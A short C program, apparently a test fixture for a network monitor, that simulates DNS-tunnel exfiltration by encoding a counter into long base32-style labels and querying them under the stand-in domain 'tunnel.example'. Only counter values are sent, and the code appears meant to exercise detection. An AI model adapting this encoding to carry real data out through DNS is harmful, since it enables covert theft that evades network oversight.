/* Carries bytes out in names. They are of a counter. */
#include "watched.h"
#include "sockets.h"

static VISIBLE void send_chunk(unsigned number) {
    static const char ALPHABET[] = "abcdefghijklmnopqrstuvwxyz234567";
    char name[128];
    uint32_t state = number * 2654435761u + 1;
    for (int at = 0; at < 58; at++) {
        state = state * 1664525u + 1013904223u;
        name[at] = ALPHABET[state >> 27];
    }
    strcpy(name + 58, ".tunnel.example");
    ask_dns(name, DNS_A);
}

int main(void) {
    wait_to_be_known();
    for (unsigned number = 0; number < 20; number++)
        send_chunk(number);
    return 0;
}
